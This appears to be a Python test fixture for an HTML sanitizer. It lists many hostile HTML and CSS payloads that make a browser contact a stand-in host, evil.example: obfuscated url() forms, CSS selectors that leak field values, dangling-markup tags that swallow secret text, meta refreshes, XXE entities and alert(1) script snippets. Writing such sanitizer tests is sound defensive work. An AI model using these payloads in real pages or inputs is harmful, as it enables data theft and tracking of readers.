"""More hostile HTML: what wants to make a browser ask another server, family by family."""

# ruff: noqa: E501, SIM905 - payloads stay as they are written

from __future__ import annotations

from tests.core.payloads import EVIL

_PROPERTIES = (
    "background background-image border-image border-image-source clip-path content cursor filter "
    "-webkit-mask -webkit-mask-image list-style list-style-image mask mask-image offset-path shape-outside src symbols"
).split()
_FUNCTIONS = {
    "a URL": "url({0})",
    "a URL in a text": 'url("{0}")',
    "a URL in another text": "url('{0}')",
    "a URL in capitals": "URL({0})",
    "a URL with blanks": "url(  {0}  )",
    "a URL with an escape": "u\\72l({0})",
    "a URL with a long escape": "\\000075\\000072\\00006c({0})",
    "a URL with a comment": "url/**/({0})",
    "a set of pictures": "image-set('{0}' 1x)",
    "a set of old": "-webkit-image-set(url({0}) 1x)",
    "a cross-fade": "cross-fade(url({0}), url({0}), 50%)",
    "an old cross-fade": "-webkit-cross-fade(url({0}), url({0}), 50%)",
    "a picture": "image('{0}')",
    "a source": "src('{0}')",
    "an element": "element(#x), url({0})",
    "paint": "paint(x), url({0})",
    "a variable": "var(--x, url({0}))",
    "the environment": "env(x, url({0}))",
    "an attribute": "attr(title type(<url>), url({0}))",
    "a condition": "if(media(all): url({0}))",
}
_SHEETS = {
    "imports": "@import '{0}/a.css'; @import url({0}/b.css) layer(x) supports(display:grid) screen;",
    "a font": "@font-face{{font-family:x;src:url({0}/f.woff2)}} *{{font-family:x}}",
    "a font of ranges": "@font-face{{font-family:y;src:url({0}/A);unicode-range:U+0041}} b{{font-family:y}}",
    "the letters of a field": "input[value^=a]{{background:url({0}/a)}} [href^='http']{{background:url({0}/b)}}",
    "what follows": ":root:has(b)::before{{content:url({0}/has)}} b:not(x)~i{{cursor:url({0}/c),auto}}",
    "when it was read": "@media print{{b{{content:url({0}/print)}}}} @media all{{p{{background:url({0}/all)}}}}",
    "how wide it is": "@container (min-width:1px){{p{{background:url({0}/wide)}}}} p{{container-type:size}}",
    "a scrollbar": "::-webkit-scrollbar{{background:url({0}/bar)}} html{{overflow:scroll}}",
    "what is selected": "::selection{{background:url({0}/sel)}} ::first-line{{background:url({0}/line)}}",
    "a counter": "@counter-style x{{system:cyclic;symbols:url({0}/s)}} li{{list-style:x}}",
    "a namespace": "@namespace svg url({0}/ns); @page{{background:url({0}/page)}}",
    "a property": "@property --x{{syntax:'<url>';inherits:true;initial-value:url({0}/p)}}",
    "an animation": "@keyframes x{{to{{background:url({0}/k)}}}} p{{animation:x 1ms}}",
    "a transition": "p{{transition:background 1ms;background:url({0}/t)}}",
    "a rule in a rule": "div{{&:hover,&{{background:url({0}/nest)}}}}",
    "a layer": "@layer x{{p{{background:url({0}/layer)}}}} @scope (div){{p{{background:url({0}/scope)}}}}",
    "an expression": "p{{width:expression(alert(1));behavior:url({0}/x.htc);-moz-binding:url({0}/x.xml#x)}}",
    "a comment that never ends": "p{{color:red}} /* </style><img src=x onerror=alert(1)> url({0})",
    "a charset": "@charset 'utf-7'; p{{background:url({0}/utf7)}}",
}
_LINKS = (
    "stylesheet prefetch preload modulepreload preconnect dns-prefetch prerender icon manifest import search alternate "
    "apple-touch-icon pingback expect compression-dictionary shortcut\u0020icon alternate\u0020stylesheet"
).split(" ")
_SOURCES = {
    "a picture by two sizes": "<img srcset='{0}/1 1x, {0}/2 2x'>",
    "a picture by width": "<img srcset='{0}/1 100w' sizes=100vw>",
    "a picture of several": "<picture><source srcset={0}/1><source media=all srcset={0}/2><img src=x></picture>",
    "a picture that is lazy": "<img loading=lazy data-src={0}/1 lowsrc={0}/2 dynsrc={0}/3>",
    "a picture that is image": "<image src={0}/1><image xlink:href={0}/2>",
    "a picture without a scheme": "<p style='background:url(//evil.example/x)'>x</p><video poster=//evil.example/y></video>",
    "a picture by a backslash": "<p style='background:url(/\\evil.example/x)'>x</p><embed src='http:\\\\evil.example\\x'>",
    "a picture by a base": "<base href={0}/><video poster=x></video><p style='background:url(x)'>x</p>",
    "an input that is a picture": "<input type=image src={0}/1>",
    "a film": "<video src={0}/1 poster={0}/2 autoplay></video><video><source src={0}/3><track src={0}/4 default></video>",
    "a sound": "<audio src={0}/1 autoplay></audio><bgsound src={0}/2><embed src={0}/3>",
    "a frame": "<iframe src={0}/1></iframe><frame src={0}/2><iframe srcdoc='<img src={0}/3>'></iframe>",
    "an object": "<object data={0}/1></object><object codebase={0}/ classid=x></object><applet archive={0}/2 code=x></applet>",
    "a drawing that takes": "<svg><image href={0}/1 /><use href={0}/2#x /><feImage href={0}/3 /></svg>",
    "a drawing that takes by its old name": "<svg><image xlink:href={0}/1 /><use xlink:href={0}/2#x /></svg>",
    "a drawing filled": "<svg><rect fill='url({0}/1#x)' filter='url({0}/2#x)' mask='url({0}/3#x)' width=9 height=9 /></svg>",
    "a drawing with a style": "<svg><style>@import '{0}/1';*{{fill:url({0}/2)}}</style><g/></svg>",
    "a drawing with a cursor": "<svg><cursor xlink:href={0}/1 /><color-profile xlink:href={0}/2 /></svg>",
    "a formula that takes": "<math><mglyph src={0}/1 /><maction actiontype=toggle xlink:href={0}/2>x</maction></math>",
    "a refresh": "<meta http-equiv=refresh content='0;url={0}/1'><meta http-equiv=refresh content='0,{0}/2'>",
    "a refresh in capitals": '<META HTTP-EQUIV="ReFrEsH" CONTENT="0; URL=\'{0}/1\'">',
    "a link as header": "<meta http-equiv=Link content='<{0}/1>; rel=stylesheet'><meta http-equiv=Set-Cookie content='a=b'>",
    "a report of breaches": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; report-uri {0}/1\">",
    "a ping": "<a href=https://x.example ping={0}/1 attributionsrc={0}/2>x</a><img attributionsrc={0}/3>",
    "a form": "<form action={0}/1 target=_top><input autofocus name=x><input type=submit formaction={0}/2></form>",
    "a form that hangs on": "<form action={0}/1><textarea name=x><select><option>",
    "a text field that swallows": "<form action={0}/1><button>x</button><textarea name=rest>",
    "a picture that swallows": "<img src='{0}/1?",
    "a picture that swallows more": '<img src="{0}/1?\n<p>Secret words</p>',
    "a link that swallows": "<a href='{0}/1?",
    "a style that swallows": "<style>@import '{0}/1?",
    "a table that swallows": "<table background='{0}/1?",
    "a quote's source": "<blockquote cite={0}/1>x</blockquote><q cite={0}/2>x</q><del cite={0}/3>x</del>",
    "a profile": "<head profile={0}/1><html manifest={0}/2><body background={0}/3>",
    "a table's pictures": "<table background=javascript:{0}><td background='{0}/ onload=x'><tr background=//evil.example>",
    "words that describe": "<img longdesc={0}/1 usemap=#x><map name=x><area href={0}/2 ping={0}/3></map>",
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{0}/1"]}}]}}</script>',
    "a worker of paint": "<script>CSS.paintWorklet.addModule('{0}/1')</script>",
    "a shadow's style": "<div><template shadowrootmode=open><style>@import '{0}/1'</style><img src={0}/2></template></div>",
    "entities": "<!DOCTYPE x [<!ENTITY % y SYSTEM '{0}/1'> %y;]><x>&y;</x><?xml-stylesheet href='{0}/2'?>",
    "a namespace of Office": "<v:rect><v:fill src={0}/1 type=frame></v:fill></v:rect><v:imagedata src={0}/2 o:href={0}/3>",
    "a condition of Office": "<!--[if mso]><v:image src={0}/1 /><![endif]--><!--[if !mso]><!--><video poster={0}/2></video><!--<![endif]-->",
    "a style of Office": "<p style='mso-element:frame;background-image:url({0}/1);mso-highlight:url({0}/2)'>x</p>",
    "an outer page": "<iframe src=//evil.example></iframe><a href=//evil.example target=_top>x</a>",
}
ASKING = {
    **{
        f"style: {name} in {property} and others": "".join(
            f'<p style="{one}:{form.format(EVIL + "/" + one).replace(chr(34), "&quot;")}">x</p>' for one in _PROPERTIES
        )
        for name, form in _FUNCTIONS.items()
        for property in ("background",)
    },
    **{
        f"cell: {name}": f'<table><td style="background:{form.format("javascript:x").replace(chr(34), "&quot;")}">x</table>'
        for name, form in _FUNCTIONS.items()
    },
    **{f"sheet: {name}": f"<style>{sheet.format(EVIL)}</style><p>x <b>y</b></p>" for name, sheet in _SHEETS.items()},
    **{f"link: {name}": f'<link rel="{name}" href="{EVIL}/{n}" as=image>' for n, name in enumerate(_LINKS)},
    **{f"source: {name}": markup.format(EVIL) for name, markup in _SOURCES.items()},
}  # fmt: skip
